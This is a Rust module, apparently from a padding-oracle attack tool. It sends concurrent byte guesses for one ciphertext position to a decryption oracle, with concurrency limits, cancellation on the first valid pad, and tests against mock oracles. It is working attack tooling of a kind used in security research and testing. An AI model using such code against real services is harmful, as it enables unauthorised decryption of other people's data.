use std::sync::Arc;

use tokio::sync::{mpsc, Semaphore};
use tokio::task::JoinSet;
use tokio_util::sync::CancellationToken;

use super::build_probe;
use crate::errors::AttackError;
use crate::oracle::{Oracle, Verdict};

// every guess may race a result in before cancellation lands
const SINK_CAPACITY: usize = 256;

// fans the guesses for one byte position out over the oracle and returns
// every guess that reported a valid pad, in arrival order. the first success
// or transport error cancels the position; the sink is drained only after
// every worker has finished, and an error found there wins over successes
// that raced past the cancellation
pub(super) async fn sweep<O: Oracle>(
    position: usize,
    guesses: &[u8],
    prev: &[u8],
    current: &[u8],
    recovered: &[u8],
    oracle: &Arc<O>,
    permits: &Arc<Semaphore>,
) -> Result<Vec<u8>, AttackError> {
    let (sink, mut results) = mpsc::channel::<Result<u8, AttackError>>(SINK_CAPACITY);
    let cancelled = CancellationToken::new();
    let mut workers = JoinSet::new();
    for &guess in guesses {
        let prev = prev.to_vec();
        let current = current.to_vec();
        let recovered = recovered.to_vec();
        let oracle = Arc::clone(oracle);
        let permits = Arc::clone(permits);
        let sink = sink.clone();
        let cancelled = cancelled.clone();
        workers.spawn(async move {
            let Ok(_permit) = permits.acquire_owned().await else {
                return;
            };
            if cancelled.is_cancelled() {
                return;
            }
            let mut probe = build_probe(position, guess, &prev, &recovered);
            probe.extend_from_slice(&current);
            match oracle.query(&probe).await {
                Ok(Verdict::Valid) => {
                    let _ = sink.try_send(Ok(guess));
                    cancelled.cancel();
                }
                Ok(Verdict::Invalid) => {}
                Err(err) => {
                    let _ = sink.try_send(Err(err));
                    cancelled.cancel();
                }
            }
        });
    }
    drop(sink);
    workers.join_all().await;

    let mut winners = Vec::new();
    while let Ok(result) = results.try_recv() {
        winners.push(result?);
    }
    Ok(winners)
}

#[cfg(test)]
mod tests {
    use super::*;
    use async_trait::async_trait;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Duration;

    struct BoundOracle {
        active: AtomicUsize,
        peak: AtomicUsize,
    }

    #[async_trait]
    impl Oracle for BoundOracle {
        async fn query(&self, _ciphertext: &[u8]) -> Result<Verdict, AttackError> {
            let now = self.active.fetch_add(1, Ordering::SeqCst) + 1;
            self.peak.fetch_max(now, Ordering::SeqCst);
            tokio::time::sleep(Duration::from_millis(1)).await;
            self.active.fetch_sub(1, Ordering::SeqCst);
            Ok(Verdict::Invalid)
        }
    }

    struct PickyOracle {
        magic: u8,
    }

    #[async_trait]
    impl Oracle for PickyOracle {
        async fn query(&self, ciphertext: &[u8]) -> Result<Verdict, AttackError> {
            if ciphertext[15] == self.magic {
                Ok(Verdict::Valid)
            } else {
                Ok(Verdict::Invalid)
            }
        }
    }

    struct DeadOracle;

    #[async_trait]
    impl Oracle for DeadOracle {
        async fn query(&self, _ciphertext: &[u8]) -> Result<Verdict, AttackError> {
            Err(AttackError::OracleTransport("connection refused".into()))
        }
    }

    fn all_guesses() -> Vec<u8> {
        (0..=u8::MAX).collect()
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 4)]
    async fn queries_never_exceed_the_permit_count() {
        let oracle = Arc::new(BoundOracle {
            active: AtomicUsize::new(0),
            peak: AtomicUsize::new(0),
        });
        let permits = Arc::new(Semaphore::new(4));
        let winners = sweep(
            15,
            &all_guesses(),
            &[7u8; 16],
            &[9u8; 16],
            &[0u8; 16],
            &oracle,
            &permits,
        )
        .await
        .unwrap();
        assert!(winners.is_empty());
        assert!(oracle.peak.load(Ordering::SeqCst) <= 4);
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn reports_the_matching_guess() {
        let oracle = Arc::new(PickyOracle { magic: 0x2A });
        let permits = Arc::new(Semaphore::new(20));
        let winners = sweep(
            15,
            &all_guesses(),
            &[0u8; 16],
            &[9u8; 16],
            &[0u8; 16],
            &oracle,
            &permits,
        )
        .await
        .unwrap();
        assert_eq!(winners, vec![0x2A]);
    }

    #[tokio::test(flavor = "multi_thread")]
    async fn surfaces_a_transport_error() {
        let oracle = Arc::new(DeadOracle);
        let permits = Arc::new(Semaphore::new(20));
        let err = sweep(
            15,
            &all_guesses(),
            &[0u8; 16],
            &[9u8; 16],
            &[0u8; 16],
            &oracle,
            &permits,
        )
        .await
        .unwrap_err();
        assert!(matches!(err, AttackError::OracleTransport(_)));
    }
}
